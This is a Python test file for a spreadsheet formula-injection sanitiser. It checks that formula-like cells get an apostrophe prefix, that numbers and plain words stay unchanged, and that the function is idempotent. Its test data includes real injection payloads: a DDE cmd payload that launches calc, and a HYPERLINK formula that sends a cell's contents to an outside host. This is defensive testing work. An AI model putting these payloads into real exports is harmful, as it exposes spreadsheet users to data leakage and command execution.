"""What a spreadsheet would compute stands behind an apostrophe; numbers stay numbers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.spreadsheet import inert


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-A1",
        "-1+E5",
        "-(E5)",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "-1\n=2",
        "+1+1",
        "-\u0661x",
    ],
)
def test_a_formula_is_shown_and_not_computed(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["", "-", "-1", "-1.5", "+4,5", "-1.5E-3", "+1 (555) 010-0100", "-5 %", "--", "a=b", "North"],
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_a_cell_is_changed_once_at_most(cell: str) -> None:
    assert inert(inert(cell)) == inert(cell)
